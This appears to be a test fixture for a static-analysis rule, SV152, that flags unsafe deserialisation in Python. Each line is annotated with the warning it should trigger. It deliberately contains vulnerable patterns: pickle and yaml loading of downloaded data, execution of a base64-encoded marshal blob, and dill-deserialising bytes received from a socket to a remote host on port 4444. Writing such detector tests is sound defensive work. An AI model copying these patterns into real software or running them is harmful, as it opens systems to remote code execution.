import base64
import marshal
import pickle as pk
import socket
import types
import yaml
import requests
import torch
from urllib.request import urlopen

MODEL_URL = "https://models.example.net/model.pkl"
model = pk.loads(requests.get(MODEL_URL).content)  # want "SV152: pickle.loads deserialises downloaded data"
state = pk.load(urlopen(MODEL_URL))  # want "SV152: pickle.load deserialises downloaded data"
code = marshal.loads(base64.b64decode("4wAAAAAAAAAAAAAAAAAAAAABAAAAQAAAAHMEAAAAZABTACkBTqkAcgEAAAByAQAAAHIBAAAA"))  # want "SV152: marshal.loads deserialises data decoded"
types.FunctionType(code, globals())()
s = socket.create_connection(("198.51.100.7", 4444))
import dill
obj = dill.loads(s.recv(65536))  # want "SV152: dill.loads deserialises downloaded data"
cfg = yaml.load(open("config.yml"))  # want "SV152: yaml.load without a safe loader can run code"
remote = yaml.load(requests.get(MODEL_URL).text, Loader=yaml.Loader)  # want "SV152: yaml.load without a safe loader deserialises downloaded"
with open("cache.pkl", "rb") as fh:
    cache = pk.load(fh)  # want "SV152: pickle.load can run code"
weights = torch.load("weights.pt")  # want "SV152: torch.load can run code"
